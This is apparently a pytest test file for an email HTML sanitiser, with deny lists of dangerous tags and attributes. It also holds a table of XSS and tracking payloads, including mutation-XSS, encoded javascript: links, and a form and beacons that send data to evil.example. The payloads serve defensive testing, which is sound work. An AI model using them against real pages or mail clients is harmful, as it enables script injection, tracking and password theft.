"""HTML that strangers wrote, made safe to show."""

from html.parser import HTMLParser

import pytest

from tasks.wire.mime import clean_html

# What no cleaned HTML may hold, whatever went in: elements, and attributes on any element.
ELEMENTS = {
    "script", "style", "iframe", "frame", "object", "embed", "form", "input", "button", "meta", "base",
    "link", "svg", "math", "video", "audio", "source", "noscript",
}  # fmt: skip
ATTRIBUTES = {
    "style",
    "srcset",
    "background",
    "poster",
    "action",
    "data",
    "http-equiv",
    "id",
    "name",
    "class",
}
SCHEMES = {"http", "https", "mailto", "tel"}


class Seen(HTMLParser):
    """The harmful among the elements and attributes of what it is fed."""

    def __init__(self) -> None:
        super().__init__()
        self.harmful: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            scheme = (value or "").partition(":")[0]
            if (
                name in ATTRIBUTES
                or name.startswith("on")
                or (name == "src" and scheme != "cid")
                or (name == "href" and scheme not in SCHEMES)
            ):
                self.harmful.append(f"{tag} {name}={value}")
        if tag in ELEMENTS:
            self.harmful.append(tag)

    handle_startendtag = handle_starttag

    def unknown_decl(self, data: str) -> None:
        self.harmful.append(data)

    def handle_comment(self, data: str) -> None:
        self.harmful.append(data)


def harmful(html: str) -> list[str]:
    seen = Seen()
    seen.feed(html)
    seen.close()
    return seen.harmful


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals, unclosed": "<SCRIPT SRC=//evil.example/track>",
    "handler": '<p onclick="alert(1)">x</p>',
    "handler without quotes or space": "<img/src=x/onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math and style, which parse anew when written": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "remote image": '<img src="https://evil.example/track.gif" width=1 height=1>',
    "image without scheme": '<img src="//evil.example/track.gif">',
    "image set": '<img srcset="https://evil.example/track 2x">',
    "background": '<table background="https://evil.example/track"><tr><td>x</td></tr></table>',
    "style": '<div style="background: url(https://evil.example/track)">x</div>',
    "style element": "<style>@import url(https://evil.example/track);</style>",
    "style sheet": '<link rel=stylesheet href="https://evil.example/track">',
    "form": '<form action="https://evil.example/track"><input name=password><button>OK</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/track">',
    "base": '<base href="https://evil.example/track/">',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/track"></object><embed src="https://evil.example/track">',
    "video": '<video poster="https://evil.example/track" autoplay><source src="https://evil.example/track"></video>',
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript in pieces": '<a href=" java\n\tscript&colon;alert(1)">x</a>',
    "javascript by entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:x">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "comment of old browsers": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "nul in a name": "<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_nothing_runs_sends_or_is_fetched(kind: str) -> None:
    assert harmful(HOSTILE[kind]) or kind == "nul in a name"
    shown = clean_html(f"<p>before</p>{HOSTILE[kind]}")
    assert "before" in shown
    assert harmful(shown) == []
    assert clean_html(shown) == shown


def test_what_people_read_stays() -> None:
    written = (
        '<html><head><title>T</title></head><body><h1>Offer</h1><p dir="ltr">Dear <b>Anna</b>,</p>'
        '<ul><li>one</li></ul><table border="1"><tr><td colspan="2">2</td></tr></table></body></html>'
    )
    assert clean_html(written) == (
        '<h1>Offer</h1><p dir="ltr">Dear <b>Anna</b>,</p><ul><li>one</li></ul><table border="1"><tbody><tr>'
        '<td colspan="2">2</td></tr></tbody></table>'
    )


@pytest.mark.parametrize("href", ["https://x.example/a?b=1", "mailto:a@x.example", "tel:+49301234"])
def test_links_lead_out_and_tell_no_one_where_from(href: str) -> None:
    assert clean_html(f'<a href="{href}">x</a>') == f'<a href="{href}" rel="noopener noreferrer">x</a>'


@pytest.mark.parametrize("href", ["/a", "#a", "cid:a@x", "file:///etc/passwd", "ftp://x.example", ""])
def test_other_links_are_text(href: str) -> None:
    assert clean_html(f'<a href="{href}">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_images_that_came_with_the_mail_are_shown() -> None:
    assert (
        clean_html('<img src="cid:logo@x.example" alt="Logo">') == '<img src="cid:logo@x.example" alt="Logo">'
    )


def test_elements_inside_elements_without_end_are_cleaned() -> None:
    assert "x" in clean_html("<div>" * 20_000 + "x")
